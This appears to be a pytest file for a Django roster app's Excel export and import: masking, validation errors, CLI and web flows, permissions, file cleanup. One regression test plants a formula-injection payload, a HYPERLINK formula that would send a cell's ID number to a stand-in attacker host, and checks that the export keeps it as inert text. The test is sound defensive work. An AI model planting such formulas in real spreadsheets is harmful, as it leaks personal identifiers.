"""The roster spreadsheet: export, re-import unchanged, row-numbered Chinese errors, all or nothing;
the same from the command line and from the web with a progress row."""

from __future__ import annotations

import datetime as dt
import io
import json
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook, load_workbook

from jiandu.accounts.testing import client_sign_in
from jiandu.audit.models import AuditEvent
from jiandu.roster import excel, services
from jiandu.roster.models import ImportStatus, RosterImport, Supervisor
from jiandu.roster.testing import make_programme, person
from jiandu.rules.identifiers import id_number_mask

D = dt.date


@pytest.fixture
def programme(world):  # type: ignore[no-untyped-def]
    p = make_programme(world, "weihai-people-2024")
    admin = world.users["weihai_admin"]
    for i in range(3):
        s = services.supervisor_appoint(
            actor=admin, programme=p, person=person(i + 1), starts_on=D(2025, 1, 1), on=D(2025, 1, 1)
        )
        s.district = world.orgs["huancui_justice"]
        s.initial_training_on = D(2025, 2, 1)
        s.save()
    return p


def _export(programme, *, full=False) -> bytes:  # type: ignore[no-untyped-def]
    buf = io.BytesIO()
    excel.roster_export(actor=None, actor_name="test", programme=programme, out=buf, full=full)
    return buf.getvalue()


def _rows(data: bytes) -> list[tuple]:
    ws = load_workbook(io.BytesIO(data), read_only=True)[excel.SHEET]
    return [tuple(r) for r in ws.iter_rows(values_only=True)]


def _book(rows: list[list]) -> io.BytesIO:  # type: ignore[type-arg]
    wb = Workbook()
    ws = wb.active
    ws.title = excel.SHEET
    ws.append(list(excel.HEADERS))
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return buf


def _new_row(n: int, **over) -> list:  # type: ignore[no-untyped-def]
    p = person(n)
    row: dict[str, Any] = dict(zip(excel.KEYS, [None] * len(excel.KEYS), strict=True))
    row.update(
        full_name=p.full_name,
        id_number=p.id_number,
        phone=p.phone,
        education="本科",
        employer="某单位",
        specialties="法律、信息技术",
        district="威海市环翠区司法局",
        term_start="2025-03-01",
        status="在任",
    )
    row.update(over)
    return list(row.values())


def test_export_is_masked_and_reimports_unchanged(programme):
    data = _export(programme)
    rows = _rows(data)
    assert rows[0] == excel.HEADERS
    s = programme.supervisors.order_by("id").first()
    assert rows[1][3] == id_number_mask(s.id_number) and s.id_number not in str(rows)
    assert rows[1][10] == "法律" and rows[1][11] == "威海市环翠区司法局"
    before = list(Supervisor.objects.order_by("id").values())
    result = excel.roster_import(actor=None, programme=programme, file=io.BytesIO(data), on=D(2026, 1, 5))
    assert result.ok, [str(e) for e in result.errors]
    assert (result.created, result.updated, result.unchanged) == (0, 0, 3)
    assert list(Supervisor.objects.order_by("id").values()) == before
    full = _export(programme, full=True)
    assert _rows(full)[1][3] == s.id_number
    assert (
        excel.roster_import(
            actor=None, programme=programme, file=io.BytesIO(full), on=D(2026, 1, 5)
        ).unchanged
        == 3
    )
    assert AuditEvent.objects.filter(action="roster.export_full").count() == 1


def test_bad_rows_are_reported_with_row_numbers_and_nothing_is_written(programme):
    good = _new_row(10)
    bad_id = _new_row(11)
    bad_id[3] = bad_id[3][:-1] + ("0" if bad_id[3][-1] != "0" else "1")
    bad_phone = _new_row(12, phone="1234", specialties="占星术", term_start="2025-13-01")
    dup = _new_row(10)
    dup[1] = "另一人"
    file = _book([good, bad_id, bad_phone, dup])
    count = programme.supervisors.count()
    result = excel.roster_import(actor=None, programme=programme, file=file, on=D(2026, 1, 5))
    messages = [str(e) for e in result.errors]
    assert not result.ok and not result.written
    assert any(m.startswith("第3行：") and "校验码" in m for m in messages)
    assert any(m.startswith("第4行：") and "手机号码" in m for m in messages)
    assert any(m.startswith("第4行：") and "专业领域“占星术”" in m for m in messages)
    assert any(m.startswith("第4行：") and "不是有效日期" in m for m in messages)
    assert any(m.startswith("第5行：") and "与第2行重复" in m for m in messages)
    assert programme.supervisors.count() == count


def test_clean_file_creates_with_terms_from_the_rulebook_and_updates_profiles(programme):
    rows = _rows(_export(programme))
    existing = list(rows[1])
    existing[5] = "new@example.cn"  # 电子邮箱
    file = _book([existing, _new_row(20)])
    dry = excel.roster_import(actor=None, programme=programme, file=file, dry_run=True, on=D(2026, 1, 5))
    assert dry.ok and (dry.created, dry.updated) == (1, 1) and not dry.written
    assert programme.supervisors.count() == 3
    file.seek(0)
    result = excel.roster_import(actor=None, programme=programme, file=file, on=D(2026, 1, 5))
    assert result.written
    new = programme.supervisors.get(full_name="测试20号")
    # 人民选任管理办法 (extended by 威海 2024): five-year terms.
    assert new.term_end == D(2030, 3, 1) and new.specialties == ["law", "it"]
    assert new.certificates.get().number == new.certificate_no
    assert programme.supervisors.get(pk=existing[0]).email == "new@example.cn"
    event = AuditEvent.objects.get(action="roster.import")
    assert event.after is not None
    assert event.after["created_ids"] == [new.pk]


def test_guarded_fields_cannot_change_through_import(programme):
    rows = _rows(_export(programme))
    row = list(rows[1])
    row[8] = "换了单位"  # 工作单位
    row[18] = "已离任"  # 状态
    result = excel.roster_import(actor=None, programme=programme, file=_book([row]), on=D(2026, 1, 5))
    messages = [str(e) for e in result.errors]
    assert any("工作单位变动" in m for m in messages) and any("状态须通过" in m for m in messages)


def test_wrong_header_is_one_clear_error(programme):
    wb = Workbook()
    wb.active.append(["name", "id"])
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    result = excel.roster_import(actor=None, programme=programme, file=buf)
    assert "表头与模板不一致" in str(result.errors[0])


def test_cli_export_import_and_programme_list(programme, tmp_path, capsys):
    out = tmp_path / "r.xlsx"
    call_command("roster", "export", "--programme", str(programme.pk), "--out", str(out))
    call_command("roster", "import", str(out), "--programme", str(programme.pk), "--dry-run")
    assert "未变化 3" in capsys.readouterr().out
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(_book([_new_row(30, phone="1")]).getvalue())
    with pytest.raises(CommandError, match="未写入"):
        call_command("roster", "import", str(bad), "--programme", str(programme.pk))
    assert "第2行" in capsys.readouterr().err
    with pytest.raises(CommandError, match="权限"):
        call_command(
            "roster",
            "export",
            "--programme",
            str(programme.pk),
            "--out",
            str(out),
            "--full",
            "--user",
            "weihai_procurator",
        )
    call_command("programme", "list", "--json")
    listed = json.loads(capsys.readouterr().out)
    assert {"id": programme.pk, "rulebook": "weihai-people-2024"}.items() <= listed[0].items()
    assert listed[0]["organisation"]["name"] == "威海市司法局"


def test_web_import_runs_as_a_task_with_progress(
    programme, world, client, django_capture_on_commit_callbacks
):
    client_sign_in(client, world.users["weihai_admin"])
    upload = SimpleUploadedFile("roster.xlsx", _book([_new_row(40)]).getvalue())
    # The task is queued when the upload's transaction commits.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/roster/p/{programme.pk}/import/", {"file": upload})
    job = RosterImport.objects.get()
    assert AuditEvent.objects.filter(action="roster.import_start", after__import_id=job.pk).exists()
    assert response.status_code == 302 and response["Location"] == f"/roster/imports/{job.pk}/"
    assert job.status == ImportStatus.DONE and job.summary["created"] == 1
    page = client.get(f"/roster/imports/{job.pk}/", headers={"HX-Request": "true"})
    assert "新增 1" in page.content.decode()
    bad = SimpleUploadedFile("bad.xlsx", _book([_new_row(41, phone="1")]).getvalue())
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/roster/p/{programme.pk}/import/", {"file": bad})
    job = RosterImport.objects.order_by("-id")[0]
    assert job.status == ImportStatus.FAILED and job.errors[0]["row"] == 2
    assert "第2行" in client.get(f"/roster/imports/{job.pk}/").content.decode()


def test_full_export_needs_the_permission(programme, world, client):
    client_sign_in(client, world.users["huancui_staff"])
    assert client.get(f"/roster/p/{programme.pk}/export.xlsx?full=1").status_code == 403
    masked = client.get(f"/roster/p/{programme.pk}/export.xlsx")
    assert masked.status_code == 200
    client_sign_in(client, world.users["weihai_admin"])
    assert client.get(f"/roster/p/{programme.pk}/export.xlsx?full=1").status_code == 200
    assert client.get(f"/roster/p/{programme.pk}/template.xlsx").status_code == 200


def test_full_export_keeps_formulas_as_text(programme):
    """Issue 11 #4: a supervisor's own profile fields saved as "=…" became live formulas in the full
    roster export (the one with 身份证号). They are now quoted text cells, and re-import unchanged."""
    import zipfile

    s = programme.supervisors.order_by("id").first()
    Supervisor.objects.filter(pk=s.pk).update(
        employer='=HYPERLINK("http://evil.example/?"&D2,"单位")', position="+1+1", email="@SUM(1)"
    )
    data = _export(programme, full=True)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the sheet
    row = _rows(data)[1]
    assert row[8] == '=HYPERLINK("http://evil.example/?"&D2,"单位")' and row[9] == "+1+1"
    result = excel.roster_import(actor=None, programme=programme, file=io.BytesIO(data), on=D(2026, 1, 5))
    assert result.ok and result.unchanged == 3, [str(e) for e in result.errors]


def test_uploaded_spreadsheets_are_deleted_after_the_import(
    programme, world, client, django_capture_on_commit_callbacks
):
    """Issue 11 #7: uploaded rosters (plaintext 身份证号) were kept forever, failed and dry runs too."""
    from django.core.files.storage import default_storage

    client_sign_in(client, world.users["weihai_admin"])
    names = []
    for upload, extra in (
        (SimpleUploadedFile("ok.xlsx", _book([_new_row(50)]).getvalue()), {}),
        (SimpleUploadedFile("bad.xlsx", _book([_new_row(51, phone="1")]).getvalue()), {}),
        (SimpleUploadedFile("dry.xlsx", _book([_new_row(52)]).getvalue()), {"dry_run": "on"}),
    ):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(f"/roster/p/{programme.pk}/import/", {"file": upload, **extra})
        job = RosterImport.objects.order_by("-id")[0]
        assert job.status in (ImportStatus.DONE, ImportStatus.FAILED) and job.finished_at
        names.append(job)
    for job in names:
        job.refresh_from_db()
        assert not job.file  # nothing left on the job …
    assert not [n for n in default_storage.listdir("roster-imports")[1]]  # … nor in storage


def test_spreadsheets_are_refused_beyond_the_row_cap(programme, monkeypatch):
    monkeypatch.setattr(excel, "MAX_ROWS", 2)
    result = excel.roster_import(
        actor=None,
        programme=programme,
        file=_book([_new_row(60), _new_row(61), _new_row(62)]),
        on=D(2026, 1, 5),
    )
    message = str(result.errors[0])
    assert not result.ok and ("超过上限" in message or "请分批导入" in message)
    result = excel.roster_import(
        actor=None, programme=programme, file=io.BytesIO(b"id,name\n"), on=D(2026, 1, 5)
    )
    assert not result.ok and "不是 Excel" in str(result.errors[0])


def _masks_match(s: Supervisor) -> bool:
    from jiandu.rules.identifiers import mobile_mask

    s = Supervisor.objects.get(pk=s.pk)
    return (s.id_number_masked, s.phone_masked) == (
        id_number_mask(s.id_number) if s.id_number else "",
        mobile_mask(s.phone) if s.phone else "",
    )


def test_every_write_of_an_identifier_stores_its_mask_and_the_roster_page_never_decrypts(
    programme, world, client, monkeypatch
):  # type: ignore[no-untyped-def]
    # Appointed through the service (the fixture), then created and updated by an import.
    assert all(_masks_match(s) for s in programme.supervisors.all())
    rows = _rows(_export(programme))
    changed = list(rows[1])
    changed[4] = "13912345678"  # 手机号码
    result = excel.roster_import(
        actor=None, programme=programme, file=_book([changed, _new_row(21)]), on=D(2026, 1, 5)
    )
    assert result.written
    assert all(_masks_match(s) for s in programme.supervisors.all())
    assert programme.supervisors.get(pk=changed[0]).phone_masked == "139****5678"
    # A profile change of the phone.
    s = programme.supervisors.get(full_name="测试21号")
    services.supervisor_update_profile(
        actor=world.users["weihai_admin"], supervisor=s, changes={"phone": "13700001111"}
    )
    assert Supervisor.objects.get(pk=s.pk).phone_masked == "137****1111" and _masks_match(s)
    # The roster list shows the stored masks without decrypting a single value.
    from jiandu.core import fields

    def refuse(value: str) -> str:
        raise AssertionError("the roster list decrypted an identifier")

    monkeypatch.setattr(fields, "decrypt", refuse)
    client_sign_in(client, world.users["weihai_admin"])
    page = client.get(f"/roster/p/{programme.pk}/").content.decode()
    assert "137****1111" in page and "139****5678" in page
